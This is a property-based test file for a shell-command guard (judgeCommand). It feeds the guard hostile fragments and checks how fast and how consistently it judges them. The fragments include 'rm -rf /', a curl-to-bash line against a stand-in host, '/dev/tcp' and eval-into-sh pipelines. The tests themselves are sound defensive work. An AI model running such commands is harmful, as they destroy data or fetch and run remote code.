// biome-ignore-all lint/suspicious/noTemplateCurlyInString: they are shell code
/** Texts are only ever judged here, never run. */
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { judgeCommand } from '../../../../src/guard/index.ts';

const severe = (text: string) => judgeCommand(text).filter(({ severity }) => severity !== 'medium');

describe('hostile text', { timeout: 60_000 }, () => {
  const PIECES =
    `$( ) \` " ' { } , | & ; \n \${ :- $x $@ "$*" rm -rf / ~ eval bash -c xargs -I{} parallel ::: find . -exec {} + \\; if then fi do done
    while for in case esac <( >( (( )) [[ ]] \\ x= f(){ local read <<< $'\\x72' env -i -S sudo ssh -o ProxyCommand= alias trap {a,b} {1..9} $((1+1)) git
    curl base64 -d awk 'BEGIN{system("x")}' > >> < 2>&1 &> /dev/tcp/h/1 exec {fd}< coproc \uE000 \uE001 \uE008 \0 \uFEFF`.split(/ +/);
  const pieces = fc.array(fc.constantFrom(...PIECES, '<<E\n', '\nE\n', ' ', '\n', ''), { maxLength: 60 });
  const anyText = fc.oneof(
    fc.string({ unit: 'binary' }),
    pieces.map((parts) => parts.join('')),
    pieces.map((parts) => parts.join(' ')),
  );
  test('any text is judged, in bounded time, and twice alike', () => {
    fc.assert(
      fc.property(anyText, (text) => {
        const started = performance.now();
        const findings = judgeCommand(text);
        expect(performance.now() - started).toBeLessThan(5000);
        expect(judgeCommand(text)).toEqual(findings);
      }),
      { numRuns: 600 },
    );
  });
  test('a text with one character less, more or changed is judged too', () => {
    const text = fc.constantFrom(
      'bash -c "$(curl -fsSL https://x.invalid)" _ a',
      "find . -name '*.o' -exec rm -rf {} + | xargs -I{} sh -c 'echo {}'",
      'f() { local a=${1:-rm}; "$a" -rf "${@:2}"; }; f "$x" / <<E\n$(id)\nE\n',
      'exec {fd}<<<\'x\'; mapfile -tu$fd rows; eval "${rows[0]}" 2>&1 | tee >(sh)',
      'case "$x" in a|b) for i in {1..3}; do ((i++)); done;; *) [[ -f $x ]] && . "$x";; esac &',
    );
    fc.assert(
      fc.property(text, fc.nat(90), fc.nat(3), fc.constantFrom(...PIECES), (whole, at, cut, piece) => {
        expect(Array.isArray(judgeCommand(whole.slice(0, at) + piece + whole.slice(at + cut)))).toBe(true);
      }),
      { numRuns: 600 },
    );
  });
  test.each([
    ['nested parentheses', '('.repeat(10_000)],
    ['nested substitutions', `${'$('.repeat(5000)}${')'.repeat(5000)}`],
    ['a long line', 'a '.repeat(64_000)],
    ['many commands', 'a;'.repeat(60_000)],
    ['braces', '{a,b}'.repeat(5000)],
    ['doubling', `a=xx;${'a=$a$a;'.repeat(2000)}eval $a`],
    ['growing arrays', 'a+=(x);'.repeat(10_000)],
    ['backticks', '`'.repeat(20_000)],
    ['functions', `${Array.from({ length: 2000 }, (_, i) => `f${i}(){ f${i + 1}; f${i + 1}; }`).join(';')};f0`],
    ['replacing', `a=${'x'.repeat(60_000)}; b=\${a//x/$a}; c=\${b//x/$b}; echo $c`],
    ['foreign code', `perl -e '${'exec STDIN fork '.repeat(4000)}'`],
    ['spaces', `perl -e 'fork${' '.repeat(60_000)}x'`],
    ['a pipeline', 'a|'.repeat(30_000)],
    ['wrappers', `${'sudo '.repeat(20_000)}ls`],
    ['items', `printf '${'a\\n'.repeat(20_000)}' | xargs -I{} sh -c 'echo {}'`],
    ['combinations', `parallel echo ::: ${'a '.repeat(9000)} ::: ${'b '.repeat(9000)}`],
    ['commands of find', `find . ${'-exec a \\; '.repeat(9000)}`],
    ['declarations', `export ${'A=b '.repeat(20_000)}`],
    ['aliases', `${Array.from({ length: 30 }, (_, i) => `alias a${i}='a${i + 1};a${i + 1}'`).join(';')};a0`],
    ['blank lines', `vim -c '${'\n'.repeat(60_000)}'; sed '${' '.repeat(60_000)}'`],
  ])('%s end', (_, text) => {
    expect(Array.isArray(judgeCommand(text))).toBe(true);
  });
  test('what is too long or too deep is uncertain, and severe if it could hide something', () => {
    expect(judgeCommand('x'.repeat(200_000))).toMatchObject([{ rule: 'uncertain', severity: 'medium' }]);
    expect(severe(`${'$('.repeat(400)}rm -rf /${')'.repeat(400)}`)).not.toEqual([]);
    expect(severe(`${'echo '.repeat(30_000)}; rm -rf /`)).not.toEqual([]);
  });
  test('brackets are counted before anything is parsed', () => {
    expect(judgeCommand('{'.repeat(100_000))).toMatchObject([{ rule: 'uncertain', message: expect.stringContaining('nested too deep') }]);
  });
  test('what is not shell code, or only known when it runs, is uncertain', () => {
    expect(judgeCommand('if then (')).toMatchObject([{ rule: 'uncertain', severity: 'medium' }]);
    for (const text of ['$CMD -rf x', 'eval "$X"', '. "$F"', 'cat x | sh', '/???/r? x'])
      expect(judgeCommand(text)).toMatchObject([{ rule: 'exec-dynamic', severity: 'medium' }]);
  });
  test('characters that hide or turn text are told', () => {
    expect(judgeCommand('ls \u202Etxt.sh')).toMatchObject([{ rule: 'hidden-text', severity: 'medium' }]);
  });
});
